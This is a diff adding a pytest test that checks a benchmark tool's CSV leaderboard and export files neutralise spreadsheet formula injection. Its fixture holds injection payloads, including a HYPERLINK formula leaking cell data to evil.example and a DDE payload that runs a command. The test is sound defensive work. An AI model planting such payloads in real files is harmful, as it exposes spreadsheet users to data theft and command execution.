@@ -494,3 +494,37 @@ def test_every_numeric_configuration_field_has_an_upper_bound():
     unbounded = {f"{m.__name__}.{name}" for m in models for name, field in m.model_fields.items()
                  if numeric(field.annotation) and not bounded(field.annotation, field.metadata)}
     assert unbounded == {"TrainConfig.lr"}
+
+
+# --- CSV exports do not carry formulas into spreadsheets ------------------------------------------------------------
+
+FORMULAS = {"independent": '=HYPERLINK("http://evil.example/?"&A1,"results")', "l2": "-2+3+cmd|' /C calc'!A0",
+            "hoc": "@SUM(1+1)", "flat": "+A1*2", "unstable": "\t=1"}
+
+
+def test_csv_exports_neutralise_formula_cells_and_keep_negative_numbers(tmp_path, capsys):
+    import csv
+    import json
+    import math
+
+    from benchbackcompat.store import ResultStore
+
+    store = ResultStore(tmp_path / "results")
+    for record in json.loads(FIXTURE_RECORDS.read_text()):
+        store.write_record(record["key"], {**record, "method": FORMULAS.get(record["method"], record["method"])})
+    assert main(["leaderboard", "--results", str(tmp_path / "results"), "--out", str(tmp_path / "board")]) == 0
+    assert main(["export", str(tmp_path / "export.csv"), "--results", str(tmp_path / "results")]) == 0
+    board = list(csv.DictReader((tmp_path / "board" / "leaderboard.csv").open(newline="")))
+    export = list(csv.DictReader((tmp_path / "export.csv").open(newline="")))
+    for rows in (board, export):
+        methods = {row["method"] for row in rows}
+        assert {"'" + name for name in FORMULAS.values()} <= methods  # shown as text, never run
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())
+    # independent's P_com over seeds 0 and 1: ((10 - 30) / (40 - 30) + (12 - 30) / (42 - 30)) / 2 = -1.75, a number
+    (p_com,) = [row for row in board if row["method"] == "'" + FORMULAS["independent"] and row["statistic"] == "p_com"]
+    assert p_com["mean"] == "-1.75"
+    (p_com,) = [row for row in export if row["method"] == "'" + FORMULAS["independent"] and row["statistic"] == "p_com"
+                and row["seed"] == "0"]
+    assert p_com["value"] == "-2.0"
+    negative = [cell for row in board + export for cell in row.values() if cell.startswith("-")]
+    assert negative and all(math.isfinite(float(cell)) for cell in negative)  # what still starts with "-" is a number
